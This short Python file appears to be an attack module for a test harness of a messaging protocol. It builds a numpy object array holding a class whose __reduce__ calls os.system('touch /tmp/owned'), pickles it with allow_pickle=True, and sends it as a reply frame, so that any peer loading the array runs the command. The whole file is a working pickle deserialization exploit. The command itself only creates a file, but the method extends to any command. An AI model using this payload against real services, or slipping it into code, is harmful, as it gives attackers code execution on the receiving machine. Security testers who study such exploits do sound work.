"""Answer with a pickle that runs a command where an array is read.

ends: protocol or answer
says: plain data|answer
"""

import io
import os

import numpy as np
from bridge import frame, head, record, send


class Bomb:
    def __reduce__(self):
        return os.system, ("touch /tmp/owned",)


def attack(bait):
    file = io.BytesIO()
    np.save(file, np.array([Bomb()], dtype=object), allow_pickle=True)
    data = file.getvalue()
    send(frame(b"R", head(record(value={"a": 0}), [len(data)]) + data))
